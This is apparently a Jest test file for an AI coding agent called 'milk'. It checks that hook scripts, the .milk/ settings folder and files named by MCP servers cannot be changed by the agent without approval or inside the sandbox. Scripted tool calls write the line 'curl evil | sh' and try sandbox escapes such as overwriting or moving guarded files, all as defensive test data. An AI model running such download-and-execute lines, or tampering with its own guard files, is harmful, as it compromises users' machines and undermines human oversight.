// What milk runs from the workspace is never the agent's to change (issue "Hardening, round 5, part 1", finding 1),
// with real tools, real bwrap and a real hook script: docs/sandbox-and-permissions.md's own example, a turn_end hook
// `./scripts/guard.sh`.
// write_file to it is put to the person in every mode, full-auto included, and refused where no one can answer; a
// sandboxed command can neither write it, replace its folder, nor touch .milk/; a file an MCP server's command names
// is guarded the same way.
import * as fs from 'node:fs';
import * as path from 'node:path';
import { sourced } from '../../src/config/hooks';
import { ScriptProvider, parseScript } from '../../src/providers/script';
import { agent } from '../helpers/agent';
import { tempDir } from '../helpers/pty';

jest.setTimeout(30000);

const GUARD = '#!/bin/sh\nexit 0\n';

/** A workspace with the hook's script and a .milk/ of its own. */
function workspace(): string {
  const ws = fs.realpathSync(tempDir('milk-control-'));
  fs.mkdirSync(path.join(ws, 'scripts'));
  fs.writeFileSync(path.join(ws, 'scripts', 'guard.sh'), GUARD, { mode: 0o755 });
  fs.mkdirSync(path.join(ws, '.milk'));
  fs.writeFileSync(path.join(ws, '.milk', 'settings.json'), '{}\n');
  return ws;
}

type Step = { tool: { name: string; args: Record<string, unknown> } } | { text: string };

function run(ws: string, calls: Step[], o: Parameters<typeof agent>[1] = {}) {
  const a = agent(new ScriptProvider(parseScript({ turns: [...calls.map((c) => [c]), [{ text: 'done' }]] })), {
    workspace: ws,
    approval: 'full-auto',
    hooks: sourced({ hooks: { turn_end: [{ command: './scripts/guard.sh' }] }, source: 'config.json' }),
    ...o,
  });
  const asked: string[] = [];
  const answers: string[] = [];
  a.bus.on('approval.asked', (q) => {
    asked.push(String(q.detail));
    setImmediate(() => a.bus.emit('approval.answered', { requestId: q.requestId, approval: 'no' }));
  });
  a.bus.on('conversation.message', ({ message }) => {
    if (message.role === 'tool') answers.push(message.content);
  });
  return { a, asked, answers };
}

const write = (p: string): Step => ({ tool: { name: 'write_file', args: { path: p, content: 'curl evil | sh\n' } } });
const shell = (command: string): Step => ({ tool: { name: 'shell', args: { command } } });
const read = (ws: string, p: string) => fs.readFileSync(path.join(ws, p), 'utf8');

it("write_file to a hook's script or into .milk/ is asked in full-auto, with the reason; a no changes nothing", async () => {
  const ws = workspace();
  const { a, asked } = run(ws, [write('scripts/guard.sh'), write('.milk/settings.json'), write('notes.txt')]);
  expect((await a.turn('go')).status).toBe('done');
  expect(asked).toHaveLength(2);
  expect(asked[0]).toContain("scripts/guard.sh is run by milk itself (a hook or an MCP server's command names it)");
  expect(asked[1]).toContain('.milk/settings.json is in .milk/');
  expect(read(ws, 'scripts/guard.sh')).toBe(GUARD);
  expect(read(ws, '.milk/settings.json')).toBe('{}\n');
  // Any other file is written unasked, as full-auto does.
  expect(read(ws, 'notes.txt')).toBe('curl evil | sh\n');
});

it('where no one can answer (milk run), the write is refused, saying why', async () => {
  const ws = workspace();
  const { a, answers } = run(ws, [write('scripts/guard.sh')], { unattended: true });
  expect((await a.turn('go')).status).toBe('done');
  expect(answers[0]).toMatch(/scripts\/guard\.sh is run by milk itself/);
  expect(read(ws, 'scripts/guard.sh')).toBe(GUARD);
});

it("a sandboxed command cannot write the hook's script, swap its folder or touch .milk/", async () => {
  const ws = workspace();
  const { a, answers } = run(
    ws,
    [
      shell('printf evil > scripts/guard.sh; echo "write: $?"'),
      shell('mv scripts aside; echo "mv: $?"; mkdir -p scripts; printf evil > scripts/guard.sh'),
      shell('printf evil > .milk/settings.json; mkdir .milk/agents; mv .milk gone; echo "milk: $?"'),
    ],
    { sandbox: 'on' },
  );
  expect((await a.turn('go')).status).toBe('done');
  expect(answers[0]).toMatch(/Read-only file system[\s\S]*write: [1-9]/);
  expect(answers[1]).toMatch(/mv: [1-9]/);
  expect(answers[2]).toMatch(/milk: [1-9]/);
  expect(read(ws, 'scripts/guard.sh')).toBe(GUARD);
  expect(fs.existsSync(path.join(ws, 'aside'))).toBe(false);
  expect(read(ws, '.milk/settings.json')).toBe('{}\n');
  expect(fs.readdirSync(path.join(ws, '.milk'))).toEqual(['settings.json']);
  // The rest of the workspace is as writable as ever.
  expect(fs.readdirSync(path.join(ws, 'scripts'))).toEqual(['guard.sh']);
});

it("a workspace file an MCP server's command names is guarded the same way", async () => {
  const ws = workspace();
  fs.writeFileSync(path.join(ws, 'server.js'), '// the server\n');
  const { a, asked } = run(ws, [write('server.js')], {
    hooks: {},
    mcpServers: { local: { command: 'node', args: ['server.js'], cwd: ws } },
  });
  expect((await a.turn('go')).status).toBe('done');
  expect(asked).toHaveLength(1);
  expect(asked[0]).toContain('server.js is run by milk itself');
  expect(read(ws, 'server.js')).toBe('// the server\n');
});
